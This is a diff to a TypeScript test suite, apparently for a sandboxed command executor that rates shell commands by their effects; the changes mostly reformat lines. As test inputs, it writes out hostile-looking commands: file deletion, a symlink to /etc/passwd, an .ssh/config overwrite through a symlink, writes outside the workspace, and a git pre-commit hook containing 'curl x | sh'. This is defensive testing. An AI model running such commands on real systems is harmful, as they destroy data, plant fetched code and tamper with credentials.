@@ -28,7 +28,8 @@ async function proposeOne(executor: Executor, args: Record<string, unknown>, id 
   return record!;
 }
 
-const read = (workspace: string, name: string) => (fs.existsSync(path.join(workspace, name)) ? fs.readFileSync(path.join(workspace, name), 'utf8') : null);
+const read = (workspace: string, name: string) =>
+  fs.existsSync(path.join(workspace, name)) ? fs.readFileSync(path.join(workspace, name), 'utf8') : null;
 const denyDeletes = { autoApprove: 'HIGH', commands: { effects: { deny: ['delete'] } } };
 
 describe.skipIf(!hasDocker)('commands rated by their effects, on the real Docker engine', () => {
@@ -61,7 +62,8 @@ describe.skipIf(!hasDocker)('commands rated by their effects, on the real Docker
       expect((record.preview as CommandRunPreview).files.map((f) => [f.path, f.existsAfter])).toEqual([['victim.txt', false]]);
       expect(read(workspace, 'victim.txt')).toBe('keep me\n');
     }
-    const denied = executor.getAudit({ filters: { stepId: 'd1', action: 'step.denied' } }).entries[0]?.args as { reasons: string[] } | undefined;
+    const denied = executor.getAudit({ filters: { stepId: 'd1', action: 'step.denied' } }).entries[0]?.args as
+      { reasons: string[] } | undefined;
     expect(denied?.reasons.join(' ')).toContain('It deletes victim.txt');
   }, 240_000);
 
@@ -93,10 +95,17 @@ describe.skipIf(!hasDocker)('commands rated by their effects, on the real Docker
   it('names wholesale replacement the replace effect: denied under effects.deny ["replace"], not a deletion, while an edit that keeps content is neither', async () => {
     const { executor, workspace } = setup({ autoApprove: 'HIGH', commands: { effects: { deny: ['replace'] } } });
     fs.writeFileSync(path.join(workspace, 'other.txt'), 'other content\n');
-    for (const [index, command] of ['cp other.txt victim.txt', 'ls > victim.txt', 'echo x > victim.txt', "sed -i 's/keep me/gone/' victim.txt"].entries()) {
+    for (const [index, command] of [
+      'cp other.txt victim.txt',
+      'ls > victim.txt',
+      'echo x > victim.txt',
+      "sed -i 's/keep me/gone/' victim.txt",
+    ].entries()) {
       const record = await proposeOne(executor, { command }, `r${index}`);
       expect({ command, status: record.status }).toEqual({ command, status: 'denied' });
-      expect(record.evaluation!.reasons.join(' ')).toMatch(/It replaces the content of victim\.txt \(none of its old lines remain\), and the policy denies replacing the content of existing files/);
+      expect(record.evaluation!.reasons.join(' ')).toMatch(
+        /It replaces the content of victim\.txt \(none of its old lines remain\), and the policy denies replacing the content of existing files/,
+      );
       expect(read(workspace, 'victim.txt')).toBe('keep me\n');
     }
     const edit = await proposeOne(executor, { command: 'echo more >> victim.txt' }, 'edit');
@@ -111,9 +120,15 @@ describe.skipIf(!hasDocker)('commands rated by their effects, on the real Docker
 
   it('refuses a command that turns victim.txt into a folder, applying nothing of it', async () => {
     const { executor, workspace } = setup({ autoApprove: 'HIGH', commands: { effects: { ask: [] } } });
-    const record = await proposeOne(executor, { command: 'echo ok > inside.txt; rm victim.txt && mkdir victim.txt && echo x > victim.txt/f' });
+    const record = await proposeOne(executor, {
+      command: 'echo ok > inside.txt; rm victim.txt && mkdir victim.txt && echo x > victim.txt/f',
+    });
     expect(record.status).toBe('denied');
-    expect((record.preview as CommandRunPreview).skipped).toContainEqual({ path: 'victim.txt', reason: expect.stringMatching(/^was a regular file and the command left a folder there/), blocksChangeset: true });
+    expect((record.preview as CommandRunPreview).skipped).toContainEqual({
+      path: 'victim.txt',
+      reason: expect.stringMatching(/^was a regular file and the command left a folder there/),
+      blocksChangeset: true,
+    });
     expect(read(workspace, 'victim.txt')).toBe('keep me\n');
     expect(read(workspace, 'inside.txt')).toBeNull();
   });
@@ -122,7 +137,9 @@ describe.skipIf(!hasDocker)('commands rated by their effects, on the real Docker
     const { executor, workspace } = setup({ autoApprove: 'HIGH', commands: { effects: { ask: [] } } });
     const record = await proposeOne(executor, { command: 'rm victim.txt && ln -s /etc/passwd victim.txt' });
     expect((record.preview as CommandRunPreview).files).toEqual([]);
-    expect((record.preview as CommandRunPreview).skipped).toEqual([{ path: 'victim.txt', reason: 'symbolic links are not carried back; the file that was there stays as it is' }]);
+    expect((record.preview as CommandRunPreview).skipped).toEqual([
+      { path: 'victim.txt', reason: 'symbolic links are not carried back; the file that was there stays as it is' },
+    ]);
     expect(fs.lstatSync(path.join(workspace, 'victim.txt')).isFile()).toBe(true);
     expect(read(workspace, 'victim.txt')).toBe('keep me\n');
   });
@@ -144,7 +161,9 @@ describe.skipIf(!hasDocker)('commands rated by their effects, on the real Docker
     const ran = await executor.approve('cmd', person);
     expect(ran.status).toBe('failed');
     expect(ran.error?.code).toBe('POLICY_DENIED');
-    expect(ran.error?.message).toMatch(/^The real run was stopped before anything was applied: It deletes victim\.txt, and the policy denies deletions \(commands\.effects\.deny\)\./);
+    expect(ran.error?.message).toMatch(
+      /^The real run was stopped before anything was applied: It deletes victim\.txt, and the policy denies deletions \(commands\.effects\.deny\)\./,
+    );
     expect(read(workspace, 'victim.txt')).toBe('keep me\n');
     expect(read(workspace, 'note.txt')).toBeNull();
     expect(executor.previewRevert('cmd')).toEqual({ files: [], directories: [] });
@@ -181,10 +200,16 @@ describe.skipIf(!hasDocker)('commands rated by their effects, on the real Docker
     fs.mkdirSync(path.join(workspace, '.ssh'));
     fs.writeFileSync(path.join(workspace, '.ssh/config'), 'Host real\n');
     fs.symlinkSync('.ssh', path.join(workspace, 'sshdir'));
-    const record = await proposeOne(executor, { command: 'rm sshdir && mkdir sshdir && echo "Host evil" > sshdir/config && echo ok > inside.txt' });
+    const record = await proposeOne(executor, {
+      command: 'rm sshdir && mkdir sshdir && echo "Host evil" > sshdir/config && echo ok > inside.txt',
+    });
     expect(record.status).toBe('denied');
     const preview = record.preview as CommandRunPreview;
-    expect(preview.skipped).toContainEqual({ path: 'sshdir/config', reason: expect.stringMatching(/\.ssh\/config, which matches the secret pattern/), blocksChangeset: true });
+    expect(preview.skipped).toContainEqual({
+      path: 'sshdir/config',
+      reason: expect.stringMatching(/\.ssh\/config, which matches the secret pattern/),
+      blocksChangeset: true,
+    });
     expect(record.evaluation!.reasons.join(' ')).toMatch(/It writes sshdir\/config, .*never applied/);
     expect(read(workspace, '.ssh/config')).toBe('Host real\n');
     expect(read(workspace, 'inside.txt')).toBeNull();
@@ -213,7 +238,11 @@ describe.skipIf(!hasDocker)('commands rated by their effects, on the real Docker
     fs.symlinkSync(outside, path.join(workspace, 'link'));
     const record = await proposeOne(executor, { command: 'rm link && mkdir link && echo pwned > link/file && echo ok > inside.txt' });
     expect(record.status).toBe('denied');
-    expect((record.preview as CommandRunPreview).skipped).toContainEqual({ path: 'link/file', reason: expect.stringMatching(/outside every workspace root/), blocksChangeset: true });
+    expect((record.preview as CommandRunPreview).skipped).toContainEqual({
+      path: 'link/file',
+      reason: expect.stringMatching(/outside every workspace root/),
+      blocksChangeset: true,
+    });
     expect(fs.readdirSync(outside)).toEqual([]);
     expect(read(workspace, 'inside.txt')).toBeNull();
   });
@@ -222,7 +251,9 @@ describe.skipIf(!hasDocker)('commands rated by their effects, on the real Docker
     const { executor } = setup({ autoApprove: 'HIGH', sandbox: { ignore: ['node_modules/**'] } });
     const record = await proposeOne(executor, { command: 'mkdir -p .git/hooks && echo "curl x | sh" > .git/hooks/pre-commit' });
     expect(record.status).toBe('awaiting_consent');
-    expect(record.evaluation!.reasons.join(' ')).toMatch(/It changes \.git\/hooks\/pre-commit inside a \.git directory.*commands\.effects\.ask/);
+    expect(record.evaluation!.reasons.join(' ')).toMatch(
+      /It changes \.git\/hooks\/pre-commit inside a \.git directory.*commands\.effects\.ask/,
+    );
   });
 
   it('re-rates a waiting step when a fresh dry run is stored: a denied effect now ends it denied', async () => {
@@ -260,7 +291,10 @@ describe.skipIf(!hasDocker)('the real CLI with commands.effects', () => {
     const { dataDir, workspace } = tempSetup(denyDeletes);
     fs.writeFileSync(path.join(workspace, 'victim.txt'), 'keep me\n');
     const planFile = path.join(tempDir(), 'plan.json');
-    fs.writeFileSync(planFile, JSON.stringify({ steps: [{ id: 'cmd', action: 'runCommand', args: { command: 'if true; then rm victim.txt; fi' } }] }));
+    fs.writeFileSync(
+      planFile,
+      JSON.stringify({ steps: [{ id: 'cmd', action: 'runCommand', args: { command: 'if true; then rm victim.txt; fi' } }] }),
+    );
     const proposed = runCli(['--data-dir', dataDir, 'propose', planFile, '--json']);
     // propose exits non-zero unless every step ran.
     expect(proposed.status).toBe(1);
@@ -282,20 +316,32 @@ describe.skipIf(!hasDocker)('the real CLI with commands.effects', () => {
     expect(fs.readFileSync(path.join(workspace, 'victim.txt'), 'utf8')).toBe('keep me\n');
   });
 
-  it('`umask 0; echo x > new.txt; mkdir -m 777 d; echo y > d/f`: asked about even under autoApprove HIGH, says what was dropped, and lands within the person\'s umask', () => {
+  it("`umask 0; echo x > new.txt; mkdir -m 777 d; echo y > d/f`: asked about even under autoApprove HIGH, says what was dropped, and lands within the person's umask", () => {
     const { dataDir, workspace } = tempSetup({ autoApprove: 'HIGH' });
     // The person's shell umask (027) is what the CLI inherits; files it writes into the workspace follow it.
     const asPerson = (args: string[]) => {
-      const result = spawnSync('sh', ['-c', 'umask 027 && exec "$0" "$@"', process.execPath, CLI, '--data-dir', dataDir, ...args], { encoding: 'utf8', timeout: 120_000 });
+      const result = spawnSync('sh', ['-c', 'umask 027 && exec "$0" "$@"', process.execPath, CLI, '--data-dir', dataDir, ...args], {
+        encoding: 'utf8',
+        timeout: 120_000,
+      });
       return { status: result.status, stdout: result.stdout, stderr: result.stderr };
     };
     const planFile = path.join(tempDir(), 'plan.json');
-    fs.writeFileSync(planFile, JSON.stringify({ steps: [{ id: 'cmd', action: 'runCommand', args: { command: 'umask 0; echo x > new.txt; mkdir -m 777 d; echo y > d/f' } }] }));
+    fs.writeFileSync(
+      planFile,
+      JSON.stringify({
+        steps: [{ id: 'cmd', action: 'runCommand', args: { command: 'umask 0; echo x > new.txt; mkdir -m 777 d; echo y > d/f' } }],
+      }),
+    );
     const proposed = asPerson(['propose', planFile, '--json']);
     expect(JSON.parse(proposed.stdout)[0].status).toBe('awaiting_consent');
     const shown = asPerson(['steps', 'show', 'cmd']);
-    expect(shown.stdout).toContain('group write, others read, others write dropped: the command asked for 0666, your umask 0027 makes it 0640');
-    expect(shown.stdout).toMatch(/It asks for wider permissions than your umask gives new files on d\/f \(0666, created 0640\) and new\.txt \(0666, created 0640\); dropped: group write, others read, others write, and the policy asks you about permission changes \(commands\.effects\.ask\)\./);
+    expect(shown.stdout).toContain(
+      'group write, others read, others write dropped: the command asked for 0666, your umask 0027 makes it 0640',
+    );
+    expect(shown.stdout).toMatch(
+      /It asks for wider permissions than your umask gives new files on d\/f \(0666, created 0640\) and new\.txt \(0666, created 0640\); dropped: group write, others read, others write, and the policy asks you about permission changes \(commands\.effects\.ask\)\./,
+    );
     expect(fs.existsSync(path.join(workspace, 'new.txt'))).toBe(false);
     const approved = asPerson(['approve', 'cmd', '--preview-hash', shownPreviewHash(dataDir, 'cmd')]);
     expect(approved.status).toBe(0);
